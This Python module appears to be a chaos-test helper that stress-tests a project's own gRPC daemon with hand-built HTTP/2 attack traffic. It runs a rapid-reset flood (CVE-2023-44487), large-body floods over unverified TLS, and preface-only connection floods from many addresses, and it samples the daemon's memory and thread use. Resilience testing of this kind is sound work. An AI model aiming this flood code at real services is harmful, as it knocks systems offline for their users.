"""Hostile clients at the byte level, for the chaos suite's attack probes (hostile.py): HTTP/2
rapid reset (CVE-2023-44487: streams opened and reset at once) in plaintext on a Control port, the
same and large request bodies through a TLS handshake without the swarm's certificate on a peer
port (as a stranger on the network would try), and preface-only connections from many source
addresses. The HPACK encoding is tests/support/http2_flood.h's."""

import errno
import socket
import ssl
import threading
import time
from collections import Counter

from . import daemons

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONTROL_STATUS = "/starling.v1.Control/GetStatus"
PEER_JOIN = "/starling.v1.Peer/Join"
MAX_FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE's initial value


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return bytes([n >> 16 & 0xFF, n >> 8 & 0xFF, n & 0xFF, kind, flags]) + stream.to_bytes(4, "big") + payload


def call_headers(path):
    """A gRPC call's header block: POST and http from HPACK's static table, then :path, :authority,
    content-type and te, each a literal without indexing (values under 127 bytes)."""
    def literal(name, value):
        return name + bytes([len(value)]) + value.encode()
    return (b"\x83\x86" + literal(b"\x04", path) + literal(b"\x01", "localhost")
            + literal(b"\x0f\x10", "application/grpc") + literal(b"\x00\x02te", "trailers"))


def opening():
    return PREFACE + frame(0x4, 0, 0)  # SETTINGS


def rapid_reset_bytes(path, streams, first_stream):
    headers = call_headers(path)
    out = bytearray()
    for i in range(streams):
        stream = first_stream + 2 * i
        out += frame(0x1, 0x4, stream, headers)  # HEADERS, END_HEADERS
        out += frame(0x3, 0, stream, b"\0\0\0\x08")  # RST_STREAM CANCEL
    return bytes(out)


def tls_context():
    """A client with no certificate that checks none: the TLS 1.3 client finishes its side of the
    handshake before the server has judged it, so its frames go out either way."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


def error_name(e):
    if isinstance(e, ssl.SSLError):
        return f"TLS {e.reason or type(e).__name__}"
    return errno.errorcode.get(e.errno, type(e).__name__) if getattr(e, "errno", None) else type(e).__name__


class Attack:
    """`workers` threads, each connecting to host:port (from `source`, through TLS when `tls`) and
    sending `kind` ("rapid_reset" or "large_bodies") until the node ends the connection, then
    connecting again, until stop(). Counts what it sent and how each connection ended."""

    def __init__(self, kind, host, port, path, workers=1, source=None, tls=False, body_bytes=4 << 20,
                 streams_per_connection=64):
        self.kind, self.host, self.port, self.path = kind, host, port, path
        self.source, self.tls = source, tls
        self.body_bytes, self.streams_per_connection = body_bytes, streams_per_connection
        self.stopping = threading.Event()
        self.lock = threading.Lock()
        self.connections = 0
        self.streams = 0
        self.bytes = 0
        self.ended = Counter()  # how connections ended: "closed by node", a connect or TLS error
        self.ctx = tls_context() if tls else None
        self.threads = [threading.Thread(target=self._work, daemon=True) for _ in range(workers)]

    def start(self):
        for t in self.threads:
            t.start()
        return self

    def stop(self):
        self.stopping.set()
        for t in self.threads:
            t.join(timeout=10)

    def figures(self):
        with self.lock:
            return {"kind": self.kind, "connections": self.connections, "streams": self.streams,
                    "bytes": self.bytes, "ended": dict(self.ended)}

    def _count(self, streams=0, sent=0, ended=None, connected=False):
        with self.lock:
            self.streams += streams
            self.bytes += sent
            self.connections += connected
            if ended:
                self.ended[ended] += 1

    def _connect(self):
        sock = socket.create_connection((self.host, self.port), timeout=5,
                                        source_address=(self.source, 0) if self.source else None)
        if self.ctx is not None:
            try:
                sock = self.ctx.wrap_socket(sock)
            except BaseException:
                sock.close()
                raise
        return sock

    def _work(self):
        while not self.stopping.is_set():
            try:
                sock = self._connect()
            except (OSError, ssl.SSLError) as e:
                self._count(ended=f"connect: {error_name(e)}")
                time.sleep(0.05)  # a refused connect returns at once: do not spin on it
                continue
            self._count(connected=True)
            try:
                with sock:
                    sock.sendall(opening())
                    (self._rapid_reset if self.kind == "rapid_reset" else self._large_bodies)(sock)
                self._count(ended="stopped")
            except TimeoutError:
                self._count(ended="not read by the node for 5 s")
            except (OSError, ssl.SSLError):
                self._count(ended="closed by node")

    def _rapid_reset(self, sock):
        batch = 500
        stream = 1
        while not self.stopping.is_set() and stream < (1 << 30):
            data = rapid_reset_bytes(self.path, batch, stream)
            sock.sendall(data)
            self._count(streams=batch, sent=len(data))
            stream += 2 * batch

    def _large_bodies(self, sock):
        headers = call_headers(self.path)
        payload = bytes(MAX_FRAME)
        for i in range(self.streams_per_connection):
            stream = 1 + 2 * i
            sock.sendall(frame(0x1, 0x4, stream, headers))
            self._count(streams=1)
            data = frame(0x0, 0, stream, payload)
            for _ in range(self.body_bytes // MAX_FRAME):
                if self.stopping.is_set():
                    return
                sock.sendall(data)
                self._count(sent=len(data))


class Usage:
    """Samples a process's VmRSS and thread count every `every` seconds until stop(); keeps the
    first sample and the peaks."""

    def __init__(self, pid, every=0.1):
        self.pid, self.every = pid, every
        self.first = read_usage(pid)
        self.peak_rss_kb = self.first[0] if self.first else 0
        self.peak_threads = self.first[1] if self.first else 0
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._sample, daemon=True)

    def start(self):
        self.thread.start()
        return self

    def stop(self):
        self.stopping.set()
        self.thread.join(timeout=5)

    def _sample(self):
        while not self.stopping.wait(self.every):
            u = read_usage(self.pid)
            if u:
                self.peak_rss_kb = max(self.peak_rss_kb, u[0])
                self.peak_threads = max(self.peak_threads, u[1])

    def figures(self):
        return {"rss_before_kb": self.first[0] if self.first else None, "rss_peak_kb": self.peak_rss_kb,
                "threads_before": self.first[1] if self.first else None, "threads_peak": self.peak_threads}


def read_usage(pid):
    """(VmRSS in kB, threads), or None once the process is gone."""
    fields = daemons.proc_status(pid, "VmRSS", "Threads")
    return (fields["VmRSS"], fields["Threads"]) if fields else None


class PrefaceFlood:
    """`connections` connections to host:port that send the HTTP/2 client preface and nothing more,
    spread over the source addresses `sources`; each one the node closes is opened again from
    the same address, twice a second, until stop(). `opened` is set once all were opened once."""

    def __init__(self, host, port, connections, sources):
        self.host, self.port, self.sources = host, port, list(sources)
        self.slots = [None] * connections  # a socket per place, None while closed
        self.first_opened = 0
        self.reopened = 0
        self.errors = Counter()
        self.opened = threading.Event()
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def start(self):
        self.thread.start()
        return self

    def stop(self):
        self.stopping.set()
        self.thread.join(timeout=30)
        for s in self.slots:
            if s is not None:
                s.close()

    def figures(self):
        return {"connections": len(self.slots), "sources": len(self.sources),
                "opened": self.first_opened, "reopened": self.reopened,
                "errors": dict(self.errors)}

    def _open(self, k):
        try:
            s = socket.create_connection((self.host, self.port), timeout=3,
                                         source_address=(self.sources[k % len(self.sources)], 0))
            s.sendall(PREFACE)
            s.setblocking(False)
            self.slots[k] = s
        except OSError as e:
            self.errors[error_name(e)] += 1

    def _run(self):
        for k in range(len(self.slots)):
            if self.stopping.is_set():
                break
            self._open(k)
        self.first_opened = sum(1 for s in self.slots if s is not None)
        self.opened.set()
        while not self.stopping.wait(0.5):
            for k, s in enumerate(self.slots):
                if s is not None and closed_by_peer(s):
                    s.close()
                    self.slots[k] = None
                if self.slots[k] is None and not self.stopping.is_set():
                    self._open(k)
                    self.reopened += 1


def closed_by_peer(sock):
    """Whether the far end has closed (or reset) a non-blocking socket; reads what it sent."""
    try:
        while True:
            if not sock.recv(65536):
                return True
    except (BlockingIOError, InterruptedError):
        return False
    except OSError:
        return True
